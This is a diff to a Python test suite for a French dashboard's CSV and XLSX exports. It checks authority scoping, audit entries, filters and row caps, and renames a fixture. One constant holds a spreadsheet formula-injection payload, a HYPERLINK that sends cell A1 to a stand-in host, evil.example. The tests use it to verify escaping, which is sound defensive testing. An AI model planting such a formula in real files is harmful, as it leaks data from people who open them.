@@ -1,4 +1,5 @@
 """Dashboard exports: CSV and XLSX, scoped, formula-injection safe, each one audited."""
+from types import SimpleNamespace
 import csv
 import io
 from datetime import date
@@ -18,8 +19,8 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
 
 
 @pytest.fixture
-def world(make):
-    w = type("World", (), {})()
+def hostile_names(make):
+    w = SimpleNamespace()
     w.assoc = make.organization()
     w.parquet_a, w.parquet_b = make.authority(), make.authority()
     w.liaison_a = make.user(Role.LIAISON, [w.parquet_a])
@@ -46,8 +47,8 @@ def _csv_rows(response):
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
 
 
-def test_csv_lists_only_the_liaisons_authority(client, world):
-    login(client, world.liaison_a)
+def test_csv_lists_only_the_liaisons_authority(client, hostile_names):
+    login(client, hostile_names.liaison_a)
     response = client.get("/tableau-de-bord/export.csv")
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
@@ -64,8 +65,8 @@ def test_csv_lists_only_the_liaisons_authority(client, world):
     assert alpha[4] == "A-001" and alpha[5] == "03/11/2025" and alpha[6] == "03/05/2026"
 
 
-def test_csv_cells_cannot_become_formulas(client, world):
-    login(client, world.liaison_a)
+def test_csv_cells_cannot_become_formulas(client, hostile_names):
+    login(client, hostile_names.liaison_a)
     rows = _csv_rows(client.get("/tableau-de-bord/export.csv"))
     evil = next(r for r in rows if "HYPERLINK" in r[0])
     assert evil[0] == "'" + EVIL
@@ -76,8 +77,8 @@ def test_csv_cells_cannot_become_formulas(client, world):
             assert not cell.startswith(("=", "+", "-", "@")), cell
 
 
-def test_xlsx_opens_escaped_and_scoped(client, world):
-    login(client, world.liaison_a)
+def test_xlsx_opens_escaped_and_scoped(client, hostile_names):
+    login(client, hostile_names.liaison_a)
     response = client.get("/tableau-de-bord/export.xlsx")
     assert response.status_code == 200
     assert response.headers["Content-Disposition"].endswith(f'mesures-{today_local().isoformat()}.xlsx"')
@@ -95,8 +96,8 @@ def test_xlsx_opens_escaped_and_scoped(client, world):
     assert "BRAVO" not in flat and "B-001" not in flat
 
 
-def test_every_export_writes_one_audit_entry_without_personal_data(client, world):
-    login(client, world.liaison_a)
+def test_every_export_writes_one_audit_entry_without_personal_data(client, hostile_names):
+    login(client, hostile_names.liaison_a)
     searched = search(client, "/tableau-de-bord", "alpha")
     client.get(searched.replace("/tableau-de-bord?", "/tableau-de-bord/export.csv?"))
     client.get("/tableau-de-bord/export.xlsx")
@@ -104,26 +105,26 @@ def test_every_export_writes_one_audit_entry_without_personal_data(client, world
     assert [e.details for e in entries] == [
         "tableau de bord, csv, 1 lignes", "tableau de bord, xlsx, 2 lignes",
     ]
-    assert all(e.user_id == world.liaison_a.id for e in entries)
+    assert all(e.user_id == hostile_names.liaison_a.id for e in entries)
 
 
-def test_exports_keep_the_filters(client, world):
-    login(client, world.liaison_b)
+def test_exports_keep_the_filters(client, hostile_names):
+    login(client, hostile_names.liaison_b)
     rows = _csv_rows(client.get("/tableau-de-bord/export.csv?statut=convoque"))
     assert [r[0] for r in rows[1:]] == ["BRAVISSIMO"]
 
 
-def test_guessing_another_authority_in_an_export_is_403_and_not_audited(client, world):
-    login(client, world.liaison_a)
-    assert client.get(f"/tableau-de-bord/export.csv?autorite={world.parquet_b.id}").status_code == 403
-    assert client.get(f"/tableau-de-bord/export.xlsx?autorite={world.parquet_b.id}").status_code == 403
+def test_guessing_another_authority_in_an_export_is_403_and_not_audited(client, hostile_names):
+    login(client, hostile_names.liaison_a)
+    assert client.get(f"/tableau-de-bord/export.csv?autorite={hostile_names.parquet_b.id}").status_code == 403
+    assert client.get(f"/tableau-de-bord/export.xlsx?autorite={hostile_names.parquet_b.id}").status_code == 403
     assert client.get("/tableau-de-bord/export.pdf").status_code == 404
     assert _exports() == []
 
 
-def test_xlsx_over_the_cap_asks_for_csv(client, world, monkeypatch):
+def test_xlsx_over_the_cap_asks_for_csv(client, hostile_names, monkeypatch):
     monkeypatch.setattr(views, "XLSX_MAX_ROWS", 1)
-    login(client, world.liaison_a)
+    login(client, hostile_names.liaison_a)
     response = client.get("/tableau-de-bord/export.xlsx?cadre=composition_penale")
     assert response.status_code == 302
     assert "/tableau-de-bord?cadre=composition_penale" in response.headers["Location"]
@@ -132,23 +133,23 @@ def test_xlsx_over_the_cap_asks_for_csv(client, world, monkeypatch):
     assert _exports() == []
 
 
-def test_large_csv_streams_every_row(client, make, world):
-    make.bulk_measures(1_234, world.parquet_a)
+def test_large_csv_streams_every_row(client, make, hostile_names):
+    make.bulk_measures(1_234, hostile_names.parquet_a)
     db.session.commit()
-    login(client, world.liaison_a)
+    login(client, hostile_names.liaison_a)
     rows = _csv_rows(client.get("/tableau-de-bord/export.csv"))
     assert len(rows) == 1 + 2 + 1_234
     assert len({r[4] for r in rows[1:]}) == 1_236
     assert _exports()[0].details == "tableau de bord, csv, 1236 lignes"
 
 
-def test_a_measure_is_exported_once_with_its_latest_seat(client, make, world):
-    measure = make.measure(make.participant("DOUBLE", "Jean"), world.parquet_a)
+def test_a_measure_is_exported_once_with_its_latest_seat(client, make, hostile_names):
+    measure = make.measure(make.participant("DOUBLE", "Jean"), hostile_names.parquet_a)
     # Moved from one session to another: one line, with the session it now holds a seat in.
     make.enrollment(measure, make.course(day=date(2026, 5, 4)), status=EnrollmentStatus.RESCHEDULED)
     make.enrollment(measure, make.course(day=date(2026, 6, 8)))
     db.session.commit()
-    login(client, world.liaison_a)
+    login(client, hostile_names.liaison_a)
     rows = [r for r in _csv_rows(client.get("/tableau-de-bord/export.csv")) if r[0] == "DOUBLE"]
     assert len(rows) == 1 and rows[0][9] == "08/06/2026"
     assert _exports()[0].details == "tableau de bord, csv, 3 lignes"
